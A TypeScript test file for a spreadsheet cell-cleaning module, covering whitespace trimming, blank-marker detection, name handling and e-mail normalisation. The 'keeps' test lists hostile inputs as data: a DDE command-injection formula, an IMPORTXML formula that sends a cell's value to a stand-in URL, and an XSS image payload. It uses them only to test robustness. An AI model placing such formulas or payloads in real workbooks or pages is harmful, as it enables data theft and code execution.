import type { Cell } from '../../core/book/cell';
import { isBlankMark, isBlankName } from '../../core/clean/blank';
import type { TextColumn } from '../../core/clean/column';
import { emailCleaner } from '../../core/clean/email';
import { textCleaner } from '../../core/clean/text';
import { afterOf, cleanColumn, rulesOf } from './cleanColumn';

const words = (cells: readonly Cell[]): TextColumn => cleanColumn((source) => textCleaner(source), cells);
const names = (cells: readonly Cell[]): TextColumn => cleanColumn((source) => textCleaner(source, isBlankName), cells);
const texts = ({ codes, dictionary }: TextColumn): readonly string[] =>
  Array.from(codes, (code) => (code < 0 ? '' : (dictionary[code] ?? '?')));

describe('a word', () => {
  test.each<[string, string]>([
    ['ordinary spaces', '  北京 '],
    ['case 31: no-break and ideographic spaces', '\u00a0北京\u3000'],
    ['zero-width spaces and a byte-order mark', '\ufeff\u200b北京\u200d\u2060'],
    ['case 26 and 27: tabs and line feeds', '\t北京\r\n'],
  ])('requirement 66: loses %s at its ends', (_, raw) => {
    const column = words([raw]);
    expect(texts(column)).toEqual(['北京']);
    expect(rulesOf(column)).toEqual(['outerSpace']);
    expect(afterOf(column, [raw])).toEqual(['北京']);
  });

  test.each<[string, string]>([
    ['inner space', 'New  York'],
    ['upper case', 'BEIJING'],
    ['full-width letters', 'ＡＢＣ'],
    ['case 21: something like a formula', '=1+1'],
    ['case 22: something like a command', "=cmd|'/c calc'!A1"],
    ['case 23: a leading at sign', '@SUM(A1)'],
    ['case 24: a leading plus', '+张三'],
    ['case 28: a full-width formula', '＝HYPERLINK("http://x")'],
    ['case 29: an import formula', '=IMPORTXML("http://x?"&A1)'],
    ['case 32: a right-to-left override', 'a\u202eb'],
    ['case 33: joined emoji', '👨‍👩‍👧'],
    ['case 34: characters beyond the basic plane', '𠮷田'],
    ['case 35: a lone surrogate', 'a\ud800'],
    ['case 36: an inner NUL', 'a\u0000b'],
    ['case 37: 32,767 characters', 'x'.repeat(32_767)],
    ['case 41: markup', '<img src=x onerror=alert(1)>'],
    ['case 42: an escape of workbooks', '_x000D_'],
    ['case 44: the traditional form of a name', '張三'],
  ])('keeps %s', (_, raw) => {
    const column = words([raw]);
    expect(texts(column)).toEqual([raw]);
    expect(rulesOf(column)).toEqual(['']);
  });

  test('equal after trimming is one word, first come first numbered', () => {
    expect(words(['上海', ' 北京', '北京', '上海 ']).codes).toEqual(Int32Array.of(0, 1, 1, 0));
  });

  test('that is a number keeps its digits', () => {
    expect(texts(words([5, '5', 0]))).toEqual(['5', '5', '0']);
  });

  test('that is an error value is refused, unlike the text of its name', () => {
    const column = words([{ error: '#REF!' }, '#REF!']);
    expect(texts(column)).toEqual(['', '#REF!']);
    expect(rulesOf(column)).toEqual(['errorValue', '']);
  });
});

describe('a blank word', () => {
  test.each(['case 25: -', 'N/A', 'NULL', '#N/A', 'NA', '?', '？', '——', '无', '空', '未填写', '(blank)', '（空）'])(
    '%j is blank, and said',
    (named) => {
      const mark = named.replace('case 25: ', '');
      const column = words([` ${mark}`]);
      expect(texts(column)).toEqual(['']);
      expect(rulesOf(column)).toEqual(['blankMark']);
      expect(afterOf(column, [mark])).toEqual(['']);
    },
  );

  test('case 30: of zero-width or ideographic space only is said', () => {
    expect(rulesOf(words(['\u200b', '\u3000', '\u00a0']))).toEqual(['blankMark', 'blankMark', 'blankMark']);
  });

  test('#56: of nothing or ordinary space is not said', () => {
    const column = words([null, '', ' ', '\t']);
    expect(texts(column)).toEqual(['', '', '', '']);
    expect(rulesOf(column)).toEqual(['', '', '', '']);
  });
});

describe('a name', () => {
  test.each(['Nan', 'Na', 'None', 'Null', 'Nil', 'Unknown', 'Blank', 'NA'])(
    '%s is somebody, though the word is a blank mark elsewhere',
    (name) => {
      const column = names([name]);
      expect(texts(column)).toEqual([name]);
      expect(rulesOf(column)).toEqual(['']);
      expect(afterOf(column, [name])).toEqual([name]);
      expect(isBlankMark(name)).toBe(true);
    },
  );

  test.each(['-', '?', '/', 'N/A', 'n.a.', '#N/A', '无', '空', '未知', '(blank)', '(null)', '（空白）'])(
    '%s is nobody',
    (mark) => {
      const column = names([mark]);
      expect(texts(column)).toEqual(['']);
      expect(rulesOf(column)).toEqual(['blankMark']);
      expect(afterOf(column, [mark])).toEqual(['']);
    },
  );
});

test('requirement 49: e-mails that customers are compared by are numbered as cleaned; what is blank or no address has no number', () => {
  const cells = ['ann@example.com', ' Ann@Example.COM', 'bo@gmial.com', 'no address', null, '-', 7, 'bo@gmial.com'];
  const { keys } = cleanColumn((source) => emailCleaner(source, new Map(), true), cells);
  expect(keys?.texts).toEqual(['ann@example.com', 'bo@gmial.com']);
  expect([...(keys?.codes ?? [])]).toEqual([0, 0, 1, -1, -1, -1, -1, 1]);
  const corrected = cleanColumn((source) => emailCleaner(source, new Map([['gmial.com', true]]), true), cells);
  expect(corrected.keys?.texts).toEqual(['ann@example.com', 'bo@gmail.com']);
  expect(cleanColumn(emailCleaner, cells).keys).toBeUndefined();
});

describe('an e-mail address', () => {
  const read = (cell: Cell): { rule: string; after: string } => {
    const column = cleanColumn(emailCleaner, [cell]);
    return { rule: rulesOf(column)[0] ?? '', after: afterOf(column, [cell])[0] ?? '' };
  };

  test.each([' Ann@Example.COM', 'ANN@example.com', 'ann＠example．com', 'ann@example.com\u00a0'])(
    '%j is rewritten',
    (text) => {
      expect(read(text)).toEqual({ rule: 'emailSpelling', after: 'ann@example.com' });
    },
  );

  test.each(['ann@example.com', 'a.b+c_d-1@mail.example.co', '1@2.cn'])('%s is left', (text) => {
    expect(read(text)).toEqual({ rule: '', after: text });
  });

  test.each([
    'ann',
    'ann@',
    '@example.com',
    'ann@example',
    'ann@example.',
    'ann@.com',
    'ann@mail..com',
    'a@b@c.com',
    'ann lee@example.com',
  ])('%s is kept and flagged', (text) => {
    expect(read(text)).toEqual({ rule: 'emailOdd', after: text });
  });

  test('that is a blank mark is blank, and said; an empty cell is not', () => {
    for (const mark of ['无', 'N/A', '\u200b']) expect(read(mark)).toEqual({ rule: 'blankMark', after: '' });
    for (const cell of [null, '', ' ']) expect(read(cell)).toEqual({ rule: '', after: '' });
  });

  test('that is no text is flagged', () => {
    for (const cell of [5, true, { error: '#N/A' }]) expect(read(cell)).toEqual({ rule: 'emailOdd', after: '' });
  });
});
